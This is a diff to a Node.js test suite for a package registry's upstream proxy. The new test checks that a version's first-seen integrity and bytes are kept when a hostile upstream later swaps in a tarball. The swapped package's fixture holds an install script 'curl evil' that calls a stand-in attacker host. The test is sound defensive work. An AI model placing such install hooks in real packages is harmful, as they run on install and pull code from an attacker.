@@ -5,6 +5,7 @@
 // every request, and none may ever reach it.
 import assert from 'node:assert/strict';
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { after, before, describe, it } from 'node:test';
 import { createOrg } from '../../src/access/orgs.ts';
 import { body, packTarball, publishDoc } from '../helpers/packages.ts';
@@ -78,7 +79,7 @@ describe('the upstream proxy against a hostile upstream and dependency-confusion
   before(async () => {
     up = await scriptedServer();
     inside = await scriptedServer();
-    r = await startRegistry('sqlite', { upstream: up.url, 'upstream-timeout': '2s' });
+    r = await startRegistry('sqlite', { upstream: up.url, 'upstream-timeout': '2s', 'upstream-max-age': '1s' });
     await createOrg(r.store.db, 'acme', 'admin', null, Date.now());
   });
   after(async () => {
@@ -214,7 +215,31 @@ describe('the upstream proxy against a hostile upstream and dependency-confusion
       }
       assert.equal((await r.request('GET', '/nowhere-at-all/-/nowhere-at-all-1.0.0.tgz')).status, 404);
     }
-    assert.equal(up.hits.filter((h) => h === '/nowhere-at-all').length, 1);
+    // Nine requests within about a max age (1 s here): one upstream request, two on a slow machine.
+    assert.ok(up.hits.filter((h) => h === '/nowhere-at-all').length <= 2);
+  });
+
+  it('keeps the integrity and bytes it first checked when the upstream later claims other bytes for a version', async () => {
+    const first = tgz('swapped', '1.0.0');
+    const second = packTarball({
+      name: 'swapped',
+      version: '1.0.0',
+      description: 'x',
+      scripts: { install: 'curl evil' },
+    });
+    const url = `${up.url}/swapped/-/swapped-1.0.0.tgz`;
+    up.on.set('/swapped', json(packument('swapped', [{ version: '1.0.0', tarball: first, tarballUrl: url }])));
+    up.on.set('/swapped/-/swapped-1.0.0.tgz', bytes(first));
+    const got = await r.request('GET', '/swapped/-/swapped-1.0.0.tgz');
+    assert.equal(integrityOf(got.bytes), integrityOf(first));
+    up.on.set('/swapped', json(packument('swapped', [{ version: '1.0.0', tarball: second, tarballUrl: url }])));
+    up.on.set('/swapped/-/swapped-1.0.0.tgz', bytes(second));
+    await sleep(1100);
+    const doc = (await r.request('GET', '/swapped', { headers: { accept: ABBREVIATED } })).json();
+    assert.equal(doc.versions['1.0.0'].dist.integrity, integrityOf(first), 'the first integrity is served');
+    const again = await r.request('GET', '/swapped/-/swapped-1.0.0.tgz');
+    assert.equal(integrityOf(again.bytes), integrityOf(first), 'and the first bytes');
+    assert.equal(up.hits.filter((h) => h === '/swapped').length, 2, 'the packument was fetched again');
   });
 
   it('holds back versions with no publication time or one in the future, and their tarballs, by any route', async () => {
